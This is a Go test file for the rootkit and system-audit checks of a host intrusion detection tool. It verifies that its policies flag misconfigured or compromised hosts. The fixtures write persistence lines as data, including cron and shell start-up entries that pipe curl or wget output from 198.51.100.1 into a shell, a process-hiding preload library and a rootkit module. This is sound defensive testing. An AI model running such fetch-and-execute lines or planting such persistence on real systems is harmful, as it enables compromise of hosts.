//go:build unix

package rootcheck

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/vedette-hids/vedette/config"
	"github.com/vedette-hids/vedette/internal/vectors"
)

// TestStockFilesLoad reads what users of OSSEC have: all of it is understood.
func TestStockFilesLoad(t *testing.T) {
	dir := vectors.Corpus(t, "corpus", "ossec-4.3.0", "rootcheck") // OSSEC's own, used in place
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	policies := 0
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), "_rcl.txt") {
			loadPolicy(t, filepath.Join(dir, e.Name()), 10)
			policies++
		}
	}
	if policies == 0 {
		t.Error("no policies")
	}
	checkDatabases(t, dir, 100, 30)
}

// loadPolicy loads a policy that has no errors.
func loadPolicy(t *testing.T, path string, atLeast int) {
	t.Helper()
	text, err := readDatabase(path)
	if err != nil {
		t.Fatal(err)
	}
	p, problems := parsePolicy(text)
	for _, b := range problems {
		t.Errorf("%s:%d: %s", path, b.line, b.text)
	}
	if len(p.entries) < atLeast {
		t.Errorf("%s: %d entries", path, len(p.entries))
	}
	for _, e := range p.entries {
		if len(e.tests) == 0 {
			t.Errorf("%s:%d: entry without tests", path, e.line)
		}
	}
}

func checkDatabases(t *testing.T, dir string, files, trojans int) {
	t.Helper()
	text, err := readDatabase(filepath.Join(dir, "rootkit_files.txt"))
	if err != nil {
		t.Fatal(err)
	}
	if n := len(parseRootkitFiles(text)); n < files {
		t.Errorf("%s: %d files", dir, n)
	}
	if text, err = readDatabase(filepath.Join(dir, "rootkit_trojans.txt")); err != nil {
		t.Fatal(err)
	}
	list := parseTrojans(text)
	if len(list) < trojans {
		t.Errorf("%s: %d trojans", dir, len(list))
	}
	for _, tr := range list {
		if _, err := regexp.CompilePOSIX(tr.pattern); err != nil {
			t.Errorf("%s: %v", dir, err)
		}
	}
}

// shared holds the files that are installed with Vedette.
var shared = filepath.Join("..", "etc", "shared")

func TestOwnDatabasesLoadAndAreQuietHere(t *testing.T) {
	checkDatabases(t, shared, 300, 50)
	text, err := readDatabase(filepath.Join(shared, "rootkit_files.txt"))
	if err != nil {
		t.Fatal(err)
	}
	lines, seen := 0, make(map[string]bool)
	eachLine(text, func(n int, line string) {
		lines++
		path, _, _ := strings.Cut(line, " ")
		if seen[path] {
			t.Errorf("line %d: %s stands twice", n, path)
		}
		seen[path] = true
	})
	if n := len(parseRootkitFiles(text)); n != lines {
		t.Errorf("%d of %d lines are understood", n, lines)
	}
	cfg := &config.Rootcheck{
		CheckFiles: true, CheckTrojans: true,
		RootkitFiles: filepath.Join(shared, "rootkit_files.txt"), RootkitTrojans: filepath.Join(shared, "rootkit_trojans.txt"),
	}
	if got, lines := scan(t, cfg, Options{}); len(got) > 0 || len(lines) != 2 {
		t.Errorf("findings on a clean host: %q, log %q", got, lines)
	}
}

func TestOwnDatabasesFindWhatTheyAreFor(t *testing.T) {
	base := t.TempDir()
	for path, content := range map[string]string{
		"reptile/reptile_cmd": "x", "dev/shm/kdmtmpflush": "x", "lib/libsh.so": "x", "opt/app/xmrig": "x", "bin/ls": "\x7fELF\x00/dev/ptyr\x00", "usr/sbin/sshd": "libns2.so\x00",
		"bin/ps": "\x7fELF\x00/dev/pts\x00/proc/self\x00", "usr/local/xmrig": "x",
	} {
		op{Op: "write", Path: path, Content: content}.run(t, func(s string) string { return filepath.Join(base, s) })
	}
	got, _ := scan(t, &config.Rootcheck{
		CheckFiles: true, CheckTrojans: true, CheckSys: true, BaseDirectory: base,
		RootkitFiles: filepath.Join(shared, "rootkit_files.txt"), RootkitTrojans: filepath.Join(shared, "rootkit_trojans.txt"),
	}, Options{})
	var names []string
	for _, g := range got {
		words := strings.SplitN(g, "'", 3)
		names = append(names, words[0]+words[1])
	}
	slices.Sort(names)
	want := []string{"Rootkit BPFDoor", "Rootkit Reptile", "Rootkit Reptile", "Rootkit ShV5", "Rootkit Xmrig",
		"Trojaned version of file " + base + "/bin/ls", "Trojaned version of file " + base + "/usr/sbin/sshd"}
	if !slices.Equal(names, want) {
		t.Errorf("%q, want %q", names, want)
	}
}

func TestOwnPoliciesLoadAndRun(t *testing.T) {
	for name, entries := range map[string]int{"system_audit_debian.txt": 14, "system_audit_rhel.txt": 18, "system_audit_ssh.txt": 20, "system_audit_linux.txt": 60} {
		path := filepath.Join(shared, name)
		loadPolicy(t, path, entries)
		_, lines := scan(t, &config.Rootcheck{CheckUnixAudit: true, SystemAudit: []string{path}}, Options{})
		for _, l := range lines {
			if strings.Contains(l, "ERROR") {
				t.Errorf("%s: %s", name, l)
			}
		}
	}
}

// hostFiles are files of an imagined host, and the beginnings of the findings that each policy gives for it.
var hostFiles = []struct {
	name, policy string
	files        map[string]string
	want         []string
	not          []string
}{
	{
		"careless ssh server", "system_audit_ssh.txt",
		map[string]string{
			"/etc/ssh/sshd_config":                "Include /etc/ssh/sshd_config.d/*.conf\n#PermitRootLogin yes\nPermitRootLogin\tyes\nCiphers aes256-ctr,3des-cbc\nMaxAuthTries 6\nMatch User x\n\tX11Forwarding yes\n",
			"/etc/ssh/sshd_config.d/50-site.conf": "PasswordAuthentication yes\nKexAlgorithms -diffie-hellman-group1-sha1\n",
			"/etc/hosts.equiv":                    "+\n",
		},
		[]string{"SSH - OpenSSH server", "SSH - Root may log in", "SSH - Passwords are accepted", "SSH - X11 forwarding", "SSH - Weak ciphers", "SSH - Old trust files", "SSH - Nobody is restricted"},
		[]string{"SSH - Weak key exchange", "SSH - Many tries", "SSH - Accounts without"},
	},
	{
		"careful ssh server", "system_audit_ssh.txt",
		map[string]string{"/etc/ssh/sshd_config": "PermitRootLogin no\nPasswordAuthentication no\n#X11Forwarding yes\nAllowGroups admins\n"},
		[]string{"SSH - OpenSSH server"},
		[]string{"SSH - Root", "SSH - Passwords", "SSH - X11", "SSH - Nobody", "SSH - Weak"},
	},
	{"no ssh server", "system_audit_ssh.txt", map[string]string{"/etc/hosts.equiv": "+\n"}, nil, []string{"SSH - "}},
	{
		"careless Debian", "system_audit_debian.txt",
		map[string]string{
			"/etc/debian_version": "12.5\n", "/etc/os-release": "VERSION_CODENAME=buster\n",
			"/etc/apt/sources.list":               "deb [trusted=yes] http://mirror.example/debian bookworm main\n",
			"/etc/apt/apt.conf.d/20auto-upgrades": "APT::Periodic::Unattended-Upgrade \"0\";\n",
			"/etc/pam.d/common-auth":              "auth [success=1 default=ignore] pam_unix.so nullok\n",
		},
		[]string{
			"Debian - System of", "Debian - Package source is trusted", "Debian - Security updates are not", "Debian - No source of security", "Debian - Accounts without",
			"Debian - Wrong passwords", "Debian - Old release",
		},
		[]string{"Debian - Certificates", "Debian - Boot loader"},
	},
	{
		"careless host", "system_audit_linux.txt",
		map[string]string{
			"/etc/passwd":                   "root:x:0:0:root:/root:/bin/bash\ndaemon:*:1:1::/:/usr/sbin/nologin\ntoor:x:0:0::/:/bin/sh\nold:abJnggxhB/yWI:1001:1001::/:/bin/sh\n",
			"/etc/shadow":                   "root:$y$j9T$x:19000:0:99999:7:::\nguest::19000:0:99999:7:::\n",
			"/etc/group":                    "root:x:0:\nusers:x:100:\n",
			"/etc/sudoers":                  "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL) NOPASSWD: ALL\n",
			"/etc/ld.so.preload":            "/usr/local/lib/libprocesshider.so\n",
			"/proc/sys/net/ipv4/ip_forward": "1\n", "/proc/sys/kernel/randomize_va_space": "2\n",
			"/proc/sys/kernel/kptr_restrict": "0\n", "/proc/sys/kernel/perf_event_paranoid": "-1\n", "/proc/modules": "diamorphine 16384 0 - Live 0x0\n",
			"/proc/mounts":                        "shm /dev/shm tmpfs rw,nodev 0 0\n",
			"/etc/cron.d/0sys":                    "* * * * * root curl -fsSL http://198.51.100.1/a | bash\n",
			"/var/spool/cron/crontabs/www":        "*/5 * * * * /var/tmp/.x/run >/dev/null\n",
			"/etc/systemd/system/net.service":     "[Service]\nExecStart=/dev/shm/netd -d\n",
			"/etc/udev/rules.d/99-x.rules":        "ACTION==\"add\", RUN+=\"/bin/bash -c '/lib/x &'\"\n",
			"/etc/profile.d/locale.sh":            "wget -qO- http://198.51.100.1/b | sh\n",
			"/etc/postgresql/15/main/pg_hba.conf": "host all all 0.0.0.0/0 trust\n",
			"/etc/mysql/conf.d/x.cnf":             "[mysqld]\nskip-grant-tables\n",
			"/etc/nginx/conf.d/site.conf":         "    ssl_protocols TLSv1 TLSv1.2;\n",
			"/etc/fstab":                          "tmpfs /tmp tmpfs defaults,nodev 0 0\n",
			"/etc/redis/redis.conf":               "bind 0.0.0.0\nprotected-mode yes\n",
			"/usr/sbin/in.telnetd":                "x",
			"/usr/sbin/rsyslogd":                  "x",
			"/etc/exports":                        "# /srv *(no_root_squash)\n",
			"/etc/docker/daemon.json":             "{\"hosts\": [\"unix:///var/run/docker.sock\", \"tcp://0.0.0.0:2375\"]}\n",
		},
		[]string{
			"SYSTEM - Accounts without a password", "SYSTEM - Password hash", "SYSTEM - Account other than root",
			"SYSTEM - Library preloading", "SYSTEM - Everything may be run", "KERNEL - Packets are forwarded", "KERNEL - Addresses of the kernel",
			"KERNEL - Known rootkit", "FILESYSTEM - /tmp is a file system of its own and allows programs", "FILESYSTEM - /dev/shm",
			"SERVICE - Telnet", "SERVICE - Database (Redis)", "SERVICE - Database (PostgreSQL)", "SERVICE - Database (MySQL", "SERVICE - Web server allows broken",
			"SERVICE - Container engine", "LOG - Kernel auditing is not", "PERSISTENCE - Scheduled job fetches", "PERSISTENCE - Scheduled job runs", "PERSISTENCE - Service starts",
			"PERSISTENCE - Device rule", "PERSISTENCE - Shell start-up",
		},
		[]string{
			"SYSTEM - Group other", "SYSTEM - Sudo does not", "KERNEL - Addresses are not", "FILESYSTEM - /tmp is a file system of its own and allows devices",
			"FILESYSTEM - Root of clients", "LOG - Nothing writes", "LOG - Kernel auditing is installed", "PERSISTENCE - Login runs",
		},
	},
	{
		"careful host", "system_audit_linux.txt",
		map[string]string{
			"/etc/passwd": "root:x:0:0:root:/root:/bin/bash\n", "/etc/shadow": "root:*:1::::::\n", "/etc/group": "root:x:0:\n",
			"/etc/login.defs":                      "PASS_MAX_DAYS\t365\nUMASK\t\t027\nENCRYPT_METHOD YESCRYPT\n",
			"/proc/sys/kernel/kptr_restrict":       "0\n", // as Debian has it: with this perf_event_paranoid nobody is shown anything
			"/proc/sys/kernel/perf_event_paranoid": "3\n",
			"/proc/mounts":                         "tmpfs /tmp tmpfs rw,nosuid,nodev 0 0\ntmpfs /dev/shm tmpfs rw,nosuid,nodev 0 0\n/dev/sda1 / ext4 rw 0 0\n",
			"/proc/modules":                        "reptile_lookalike 16384 0 - Live 0x0\next4 1 0 - Live 0x0\n",
			"/etc/crontab":                         "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n# curl http://x | sh\n",
			"/etc/cron.d/update":                   "0 3 * * * root curl -o /var/lib/list https://example.org/list\n0 4 * * 0 root find /tmp -mtime +9 -delete\n",
			"/etc/systemd/system/app.service":      "[Service]\nExecStart=/usr/bin/app --cache=/var/cache/app\n",
			"/etc/udev/rules.d/70-net.rules":       "SUBSYSTEM==\"net\", RUN+=\"/usr/lib/udev/ifupdown\"\n",
			"/etc/profile.d/proxy.sh":              "export https_proxy=http://proxy:3128\n",
			"/usr/sbin/auditd":                     "x",
			"/etc/audit/rules.d/audit.rules":       "-D\n-b 8192\n-w /etc/passwd -p wa\n",
			"/usr/sbin/rsyslogd":                   "x",
			"/etc/postgresql/15/main/pg_hba.conf":  "local all all peer\nhost all all 127.0.0.1/32 trust\nhost all all 10.0.0.0/8 scram-sha-256\n",
			"/etc/nginx/nginx.conf":                "\tssl_protocols TLSv1.2 TLSv1.3;\n",
			"/etc/apache2/mods-enabled/ssl.conf":   "\tSSLProtocol all -SSLv3 -TLSv1 -TLSv1.1\n",
		},
		nil,
		[]string{"SYSTEM", "KERNEL", "FILESYSTEM", "SERVICE", "PERSISTENCE", "LOG"},
	},
	{
		"careless Red Hat", "system_audit_rhel.txt",
		map[string]string{
			"/etc/redhat-release": "CentOS Linux release 7.9.2009 (Core)\n", "/etc/selinux/config": "# SELINUX=disabled\nSELINUX=permissive\n",
			"/etc/yum.repos.d/site.repo": "[site]\nbaseurl=http://mirror.example/\ngpgcheck = 0\n", "/etc/crypto-policies/config": "DEFAULT\n",
			"/etc/pam.d/system-auth": "auth sufficient pam_unix.so try_first_pass nullok\npassword requisite pam_pwquality.so\n", "/usr/sbin/firewalld": "x",
		},
		[]string{"RHEL - System of", "RHEL - Packages are installed without", "RHEL - SELinux only warns", "RHEL - Accounts without", "RHEL - Wrong passwords", "RHEL - Old release", "RHEL - Boot loader"},
		[]string{"RHEL - SELinux is off", "RHEL - Old cryptography", "RHEL - Quality", "RHEL - No packet filter"},
	},
	{"another system", "system_audit_rhel.txt", map[string]string{"/etc/debian_version": "12\n"}, nil, []string{"RHEL"}},
}

func TestOwnPoliciesJudgeHosts(t *testing.T) {
	paths := regexp.MustCompile(`([:!=,>(] ?)(/(?:etc|usr|proc|sys|root|lib|sbin|boot|var)\b)`)
	for _, h := range hostFiles {
		t.Run(h.name, func(t *testing.T) {
			base := t.TempDir()
			for path, content := range h.files {
				op{Op: "write", Path: path, Content: content}.run(t, func(s string) string {
					if strings.HasPrefix(s, "/") && s == path {
						return base + s
					}
					return s
				})
			}
			text, err := readDatabase(filepath.Join(shared, h.policy))
			if err != nil {
				t.Fatal(err)
			}
			var moved strings.Builder
			for line := range strings.Lines(text) {
				if strings.HasPrefix(line, "f:") || strings.HasPrefix(line, "d:") || strings.HasPrefix(line, "$") {
					head, rest, cut := strings.Cut(line, " -> ")
					line = paths.ReplaceAllString(head, "${1}"+base+"${2}")
					if cut {
						line += " -> " + rest
					}
				}
				moved.WriteString(line)
			}
			got, lines := policyFindings(t, moved.String(), Options{proc: t.TempDir()})
			all := strings.Join(got, "\n")
			for _, w := range h.want {
				if !strings.Contains(all, "System Audit: "+w) {
					t.Errorf("no finding %q", w)
				}
			}
			for _, n := range h.not {
				if strings.Contains(all, "System Audit: "+n) {
					t.Errorf("finding %q", n)
				}
			}
			if t.Failed() {
				t.Logf("findings:\n%s\nlog: %q", all, lines)
			}
		})
	}
}
